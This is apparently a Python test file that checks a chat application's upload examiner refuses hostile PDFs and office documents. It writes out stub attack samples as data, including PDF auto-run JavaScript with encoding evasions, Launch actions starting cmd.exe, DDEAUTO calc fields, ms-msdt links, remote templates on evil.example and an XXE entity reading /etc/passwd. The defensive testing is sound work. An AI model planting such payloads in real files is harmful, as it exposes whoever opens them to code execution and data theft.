"""Files that would do something when they are opened: refused, each for the reason that it is refused for."""

from __future__ import annotations

from typing import TYPE_CHECKING

from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from rdchat.files.examination import examine
from rdchat.files.kinds import UnacceptableError
from tests.support.hostile_documents import (
    OOXML,
    action,
    attachment,
    compact,
    docx,
    field,
    odt,
    pdf_of,
    pdf_with,
    relations,
    xlsx,
)

if TYPE_CHECKING:
    from tests.support.attacks import Attacks

_SCRIPT = b"<</S/JavaScript/JS(app.alert(1))>>"
_RELS = "word/_rels/document.xml.rels"
_LINKED = '<draw:image xlink:href="%s"/>'

#: What each is refused for: words of its sentence.
PDFS = {
    "a script that runs when it is opened": (pdf_of(_SCRIPT, root=b"/OpenAction 4 0 R"), "scripts"),
    "one in the catalogue itself": (pdf_of(root=b"/OpenAction<</S/JavaScript/JS(x)>>"), "scripts"),
    "one among the names": (
        pdf_of(_SCRIPT, root=b"/Names<</JavaScript<</Names[(a)4 0 R]>>>>"),
        "scripts",
    ),
    "one at a button": (pdf_of(b"<</Type/Annot/Subtype/Widget/A" + _SCRIPT + b">>"), "scripts"),
    "one when a page is shown": (pdf_of(b"<</AA<</O" + _SCRIPT + b">>>>"), "scripts"),
    "a name in other characters": (
        pdf_of(b"<</S/J#61vaScript/#4AS(x)>>", root=b"/OpenAction 4 0 R"),
        "scripts",
    ),
    "all of it in other characters": (
        pdf_of(b"<</#53/#4A#61#76#61#53#63#72#69#70#74/#4a#53(x)>>", root=b"/OpenAction 4 0 R"),
        "scripts",
    ),
    "a comment between": (
        pdf_of(b"<</S%here\n/JavaScript/JS%there\n(x)>>", root=b"/OpenAction 4 0 R"),
        "scripts",
    ),
    "a value elsewhere": (pdf_of(b"<</S 5 0 R/JS 6 0 R>>", b"/JavaScript", b"(x)"), "scripts"),
    "in compressed objects": (
        pdf_with("/OpenAction", action("JavaScript", JS="x"), compressed=True),
        "scripts",
    ),
    "in objects packed twice": (
        compact(
            pdf_with("/OpenAction", action("JavaScript", JS="x")), filters=("ASCIIHexDecode", "FlateDecode")
        ),
        "scripts",
    ),
    "encrypted without a password": (
        pdf_with("/OpenAction", action("JavaScript", JS="x"), password=""),
        "scripts",
    ),
    "behind a table that leaves it out": (
        compact(pdf_with("/OpenAction", action("JavaScript", JS="x")), in_table=False),
        "",
    ),
    "behind a table that is damaged": (
        pdf_of(b"<</Names 5 0 R>>", b"<</EmbeddedFiles 6 0 R>>").replace(b"startxref", b"startxrex"),
        "",
    ),
    "a program that is started": (pdf_of(b"<</S/Launch/F(cmd.exe)>>", root=b"/OpenAction 4 0 R"), "start"),
    "one in compressed objects": (pdf_with("/A", action("Launch", F="cmd.exe"), compressed=True), "start"),
    "an address that is opened": (
        pdf_of(b"<</S/URI/URI(https://evil.example)>>", root=b"/OpenAction 4 0 R"),
        "open addresses",
    ),
    "a share that is opened": (
        pdf_of(b"<</S/GoToR/F(//evil.example/a)>>", root=b"/OpenAction 4 0 R"),
        "open addresses",
    ),
    "a file in it": (pdf_with("/Names", attachment()), "other files"),
    "one in compressed objects, too": (
        pdf_with("/Names", DictionaryObject({NameObject("/EmbeddedFiles"): ArrayObject()}), compressed=True),
        "other files",
    ),
    "a form of XFA": (pdf_of(b"<</XFA[(template)5 0 R]>>", b"(x)", root=b"/AcroForm 4 0 R"), "XFA"),
    "a player": (pdf_of(b"<</Type/Annot/Subtype/RichMedia>>"), "media"),
    "a script of a player": (pdf_of(b"<</S/Rendition/JS(x)>>"), ""),
}
OFFICE = {
    "macros": (docx({"word/vbaProject.bin": b"x"}), "macros"),
    "macros by another name": (
        docx({"word/a.bin": b"x"}, types='<Override ContentType="application/vnd.ms-office.vbaProject"/>'),
        "macros",
    ),
    "macros by their relation": (
        docx({_RELS: relations("vbaProject", "a.bin", mode="").replace(b"officeDocument", b"office")}),
        "macros",
    ),
    "macros of Excel 4": (xlsx({"xl/macrosheets/sheet1.xml": "<x/>"}), "macros"),
    "a document with macros in it": (docx({"word/embeddings/a.xlsm": b"x"}), "macros"),
    "a control": (docx({"word/activeX/activeX1.xml": "<x/>"}), "ActiveX"),
    "a control by its relation": (docx({_RELS: relations("control", "a.xml", mode="")}), "ActiveX"),
    "an object": (docx({"word/embeddings/oleObject1.bin": b"x"}), "OLE"),
    "an object by its relation": (docx({_RELS: relations("oleObject", "embeddings/a", mode="")}), "OLE"),
    "an object elsewhere": (docx({_RELS: relations("oleObject", "https://evil.example/a")}), "OLE"),
    "an object by its content type": (
        docx(types=f'<Default Extension="x" ContentType="{OOXML}.oleObject"/>'),
        "OLE",
    ),
    "a program": (docx({"word/embeddings/a.exe": b"MZ"}), "programs"),
    "a template elsewhere": (
        docx({"word/_rels/settings.xml.rels": relations("attachedTemplate", "https://evil.example/a.dotm")}),
        "template",
    ),
    "a picture elsewhere": (docx({_RELS: relations("image", "https://evil.example/a.png")}), "elsewhere"),
    "a frame elsewhere": (docx({_RELS: relations("frame", "\\\\evil.example\\a")}), "elsewhere"),
    "relations of a header": (
        docx({"word/_rels/header1.xml.rels": relations("image", "https://evil.example/a.png")}),
        "elsewhere",
    ),
    "relations in UTF-16": (
        docx({_RELS: relations("image", "https://evil.example/a.png", encoding="utf-16")}),
        "elsewhere",
    ),
    "relations with spaces": (
        docx({_RELS: relations("image", "a", mode=" TargetMode = \n 'External'")}),
        "elsewhere",
    ),
    "relations in entities": (
        docx({_RELS: relations("image", "a", mode=' TargetMode="&#69;xternal"')}),
        "elsewhere",
    ),
    "a document type": (
        docx(
            {
                _RELS: b'<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><Relationships>&e;</Relationships>'
            }
        ),
        "safely",
    ),
    "entities without end": (
        docx(
            {_RELS: b'<!DOCTYPE a [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]><Relationships>&b;</Relationships>'}
        ),
        "safely",
    ),
    "relations that cannot be read": (docx({_RELS: b"<Relationships><"}), "safely"),
    "a link that starts something": (
        docx({_RELS: relations("hyperlink", "ms-msdt:/id PCWDiagnostic")}),
        "links",
    ),
    "a link to a script": (docx({_RELS: relations("hyperlink", "javascript:alert(1)")}), "links"),
    "a link to a file": (
        docx({_RELS: relations("hyperlink", "file:///c:/windows/system32/cmd.exe")}),
        "links",
    ),
    "a link to a share": (docx({_RELS: relations("hyperlink", "\\\\evil.example\\a")}), "links"),
    "DDE": (docx(body=field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')), "DDE"),
    "DDE in pieces": (docx(body=field(" D", "DE", 'AUTO excel "a"')), "DDE"),
    "DDE in small letters": (docx(body=field(' dde excel "a" ')), "DDE"),
    "DDE in a simple field": (docx(body='<w:fldSimple w:instr=" DDE excel a "/>'), "DDE"),
    "DDE in a header": (
        docx({"word/header1.xml": f'<w:hdr xmlns:w="w">{field(" DDE excel a ")}</w:hdr>'}),
        "DDE",
    ),
    "DDE in a workbook": (
        xlsx(
            {"xl/externalLinks/externalLink1.xml": '<externalLink><ddeLink ddeService="cmd"/></externalLink>'}
        ),
        "DDE",
    ),
    "an object of a workbook": (
        xlsx({"xl/externalLinks/externalLink1.xml": "<externalLink><oleLink/></externalLink>"}),
        "OLE",
    ),
    "another workbook": (
        xlsx(
            {"xl/externalLinks/_rels/externalLink1.xml.rels": relations("externalLinkPath", "file:///a.xlsx")}
        ),
        "elsewhere",
    ),
    "macros of OpenDocument": (odt(more={"Basic/Standard/Module1.xml": "<x/>"}), "macros"),
    "scripts of OpenDocument": (odt(more={"Scripts/python/a.py": "x"}), "macros"),
    "a script at an event": (
        odt('<script:event-listener script:language="ooo:script" xlink:href="vnd.sun.star.script:a"/>'),
        "macros",
    ),
    "a presentation that starts something": (
        odt(
            '<presentation:event-listener presentation:action="execute" xlink:href="a.exe"/>',
            kind="presentation",
        ),
        "macros",
    ),
    "DDE of OpenDocument": (odt("<text:dde-connection-decl/>"), "DDE"),
    "DDE of a sheet": (odt("<office:dde-source/>", kind="spreadsheet"), "DDE"),
    "an OLE object of OpenDocument": (odt("<draw:object-ole/>"), "OLE"),
    "an applet": (odt("<draw:applet/>"), "programs"),
    "a plugin": (odt("<draw:plugin/>"), "programs"),
    "a picture elsewhere, too": (odt(_LINKED % "https://evil.example/a.png"), "elsewhere"),
    "a picture on a share": (odt(_LINKED % "//evil.example/a.png"), "elsewhere"),
    "a picture beside it": (odt(_LINKED % "../a.png"), "elsewhere"),
    "a style from elsewhere": (
        odt(more={"styles.xml": '<o xmlns:xlink="x"><d xlink:href="https://evil.example"/></o>'}),
        "elsewhere",
    ),
    "a link to a program": (odt('<text:a xlink:href="vnd.sun.star.script:a"/>'), "links"),
}
HARMLESS = {
    "a PDF by hand": pdf_of(),
    "one that opens at a page": pdf_of(root=b"/OpenAction[3 0 R/Fit]"),
    "one that opens at a page by an action": pdf_of(root=b"/OpenAction<</S/GoTo/D[3 0 R/Fit]>>"),
    "one with a link to a page about scripts": pdf_of(
        b"<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://docs.example/Web/JavaScript)>>>>"
    ),
    "one with a text about scripts": pdf_of(b"(/JavaScript and /Launch and /EmbeddedFile)"),
    "compressed": pdf_with("/Lang", TextStringObject("id"), compressed=True),
    "compressed, and about scripts": pdf_with("/Lang", TextStringObject("/JavaScript"), compressed=True),
    "a picture of any bytes": pdf_of(b"<</Length 20>>stream\n/JS /XFA /Launch x#20\nendstream"),
    "a document": docx(body=field(" PAGE \\* MERGEFORMAT ")),
    "a document about DDE": docx(body="<w:p><w:r><w:t>DDE, DDEAUTO</w:t></w:r></w:p>"),
    "a document with links": docx({_RELS: relations("hyperlink", "https://klinik.example/a?b#c")}),
    "with an address": docx({_RELS: relations("hyperlink", "mailto:sari@klinik.example")}),
    "with parts of its own": docx({_RELS: relations("image", "media/image1.png", mode="")}),
    "with a chart's workbook": docx(
        {"word/embeddings/a.xlsx": b"PK", _RELS: relations("package", "embeddings/a.xlsx", mode="")}
    ),
    "a workbook": xlsx(),
    "a text of LibreOffice": odt('<office:scripts/><text:a xlink:href="https://klinik.example"/>'),
    "with a picture of its own": odt(_LINKED % "Pictures/a.png"),
    "with an object of its own": odt('<draw:object xlink:href="./Object 1"/>'),
    "a presentation that goes on at a click": odt(
        '<presentation:event-listener presentation:action="next-page"/>', kind="presentation"
    ),
}


def refusal_of(content: bytes) -> str | None:
    try:
        examine(content)
    except UnacceptableError as error:
        return str(error)
    return None


def test_pdfs_that_do_something_are_refused_for_it(attacks: Attacks) -> None:
    said = {name: (refusal_of(content), words) for name, (content, words) in PDFS.items()}
    through = [(name, one) for name, (one, words) in said.items() if one is None or words not in one]
    attacks.count("PDFs that run or open something", tried=len(said), through=through)


def test_office_documents_that_do_something_are_refused_for_it(attacks: Attacks) -> None:
    said = {name: (refusal_of(content), words) for name, (content, words) in OFFICE.items()}
    through = [(name, one) for name, (one, words) in said.items() if one is None or words not in one]
    attacks.count("office documents that run or fetch something", tried=len(said), through=through)


def test_what_only_looks_like_it_is_sent() -> None:
    refused = {name: one for name, content in HARMLESS.items() if (one := refusal_of(content)) is not None}
    assert refused == {}
